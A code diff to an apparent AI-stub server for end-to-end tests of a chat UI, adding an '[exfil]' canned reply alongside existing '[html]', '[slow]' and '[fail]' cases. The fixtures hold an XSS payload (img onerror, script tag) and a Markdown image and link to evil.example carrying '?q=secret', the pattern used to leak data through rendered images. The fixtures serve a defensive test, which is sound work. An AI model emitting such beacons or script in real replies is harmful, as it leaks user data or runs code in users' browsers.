@@ -4,6 +4,7 @@
 // the user's last message so that each journey can ask for what it checks:
 //  - "[html]": a reply carrying raw HTML (<img onerror>, <script>) that must show as text;
 //  - "[slow]": a long reply streamed in pieces 400 ms apart, so the page can be seen to grow;
+//  - "[exfil]": a reply naming an image and a link on another host, and a wide code block;
 //  - "[fail]": a 500 from the provider;
 //  - anything else: a short Markdown plan, streamed in a few pieces.
 // The insights' wording calls (src/server/modules/insights/insights-wording.ts) are told apart by
@@ -20,6 +21,9 @@ const port = Number(process.env.AI_STUB_PORT ?? 4210);
 export const HTML_REPLY = 'Careful: <img src=x onerror="window.__aiXss=1"> and <script>window.__aiXss=2</script> stay text. **Bold is fine.**';
 export const DEFAULT_REPLY = "Here is a plan for your day:\n\n1. **Deep work** on your top goal\n2. Answer messages after lunch\n3. Review tomorrow";
 export const WEEKLY_SUMMARY_REPLY = "A steady week: you finished what mattered most and kept your goals moving.";
+export const EXFIL_REPLY =
+  "Your chart: ![chart](https://evil.example/pixel.png?q=secret) and [the report](https://evil.example/report?q=secret).\n\n" +
+  "```\nconst plan = " + JSON.stringify(Array.from({ length: 12 }, (_, index) => `a long task name number ${index}`)) + ";\n```";
 const SLOW_PIECES = ["Let's take this ", "one step ", "at a time. ", "First, breathe. ", "Then pick ", "one small task."];
 
 function replyFor(message: string, system = ""): { pieces: string[]; gapMs: number } | "fail" {
@@ -28,6 +32,7 @@ function replyFor(message: string, system = ""): { pieces: string[]; gapMs: numb
   if (message.includes("[fail]")) return "fail";
   if (message.includes("[html]")) return { pieces: [HTML_REPLY.slice(0, 30), HTML_REPLY.slice(30)], gapMs: 20 };
   if (message.includes("[slow]")) return { pieces: SLOW_PIECES, gapMs: 400 };
+  if (message.includes("[exfil]")) return { pieces: EXFIL_REPLY.match(/[\s\S]{1,40}/g) ?? [EXFIL_REPLY], gapMs: 20 };
   const pieces = DEFAULT_REPLY.match(/[\s\S]{1,24}/g) ?? [DEFAULT_REPLY];
   return { pieces, gapMs: 60 };
 }
